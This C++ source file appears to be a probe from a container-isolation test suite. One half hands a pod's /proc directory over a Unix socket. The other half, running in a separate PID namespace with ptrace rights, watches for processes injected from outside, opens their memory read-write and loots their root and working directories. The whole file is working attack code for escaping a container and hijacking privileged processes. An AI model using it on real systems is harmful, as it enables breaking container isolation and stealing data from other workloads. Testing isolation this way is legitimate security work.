// A neighbour without a number for a newborn is handed one: `hand` shows the pod's procfs by a
// descriptor (SCM_RIGHTS), and stops newborns meanwhile; `take`, which has SYS_PTRACE and is in
// another PID namespace, goes through it.
#include "kinds.hpp"
#include "thief.hpp"

#include <cstdio>
#include <cstdlib>
#include <cstring>

#include <dirent.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

namespace thief {
namespace {

std::string slurp_at(int folder, const std::string& name) {
    const int file = openat(folder, name.c_str(), O_RDONLY | O_CLOEXEC);
    char text[4096];
    const auto got = file < 0 ? 0 : read(file, text, sizeof text);
    if (file >= 0) close(file);
    return {text, got > 0 ? static_cast<std::size_t>(got) : 0};
}

/// Forked from who is outside, and without a program of its own (PF_FORKNOEXEC of proc(5)).
bool is_newborn_in(int proc, const std::string& name) {
    constexpr unsigned long kForkedWithoutExec = 0x40;
    const auto text = slurp_at(proc, name + "/stat");
    const auto end = text.rfind(')');
    if (end == std::string::npos) return false;
    char state = 0;
    long parent = 0, skipped[4]{};
    unsigned long flags = 0;
    if (std::sscanf(text.c_str() + end + 1, " %c %ld %ld %ld %ld %ld %lu", &state, &parent,
                    &skipped[0], &skipped[1], &skipped[2], &skipped[3], &flags) != 7)
        return false;
    return parent == 0 && (flags & kForkedWithoutExec) != 0;
}

bool is_privileged(int proc, const std::string& name) {
    constexpr unsigned long kSysAdmin = 1UL << 21U;  // capabilities(7)
    const auto text = slurp_at(proc, name + "/status");
    const auto at = text.find("\nCapEff:");
    return at != std::string::npos &&
           (std::strtoul(text.c_str() + at + 8, nullptr, 16) & kSysAdmin) != 0;
}

/// Its memory is its will.
void rob(int proc, const std::string& name) {
    const bool before = is_privileged(proc, name);
    const int memory = openat(proc, (name + "/mem").c_str(), O_RDWR | O_CLOEXEC);
    // It cannot gain what it has not: so it had it in between.
    if (memory >= 0 && before && is_privileged(proc, name))
        say("WON the memory of a privileged newborn, " + name);
    if (memory >= 0) close(memory);
    for (const char* way : {"/root", "/cwd"}) {
        const int fd = openat(proc, (name + way).c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;
        say("GOT " + name + way);
        loot_folder(fd, "/proc/N" + std::string{way} + ", which was handed over");
        close(fd);
    }
}

int take_folder(const std::string& path) {
    while (true) {
        const int socket_end = connect_to(path);
        std::string bytes;
        std::vector<int> fds;
        if (socket_end >= 0)
            for (int tries = 0; tries < 100 && fds.empty(); ++tries, wait_a_moment(10))
                if (receive_packet(socket_end, bytes, fds) == 0) break;
        close(socket_end);
        if (!fds.empty()) return fds.front();
        wait_a_moment(20);
    }
}

}  // namespace

/// hand PATH SECONDS CANARY
int hand(const Arguments& words) {
    const int listener = listen_at(words.at(0));
    if (listener < 0) {
        say("TRIED in vain to listen: " + errno_name());
        return 1;
    }
    const int connection = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
    const int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    send_packet(connection, "p", {proc});
    return theft({words.at(1), "hold", words.at(2), "300"});
}

/// take PATH SECONDS CANARY
int take(const Arguments& words) {
    set_canary(words.at(2));
    const int proc = take_folder(words.at(0));
    say("ready");
    const double end = now() + std::strtod(words.at(1).c_str(), nullptr);
    while (now() < end) {
        DIR* const folder = fdopendir(openat(proc, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
        if (folder == nullptr) return 1;
        while (const auto* entry = readdir(folder))
            if (std::strtol(entry->d_name, nullptr, 10) > 0 && is_newborn_in(proc, entry->d_name))
                rob(proc, entry->d_name);
        closedir(folder);
    }
    return 0;
}

}  // namespace thief
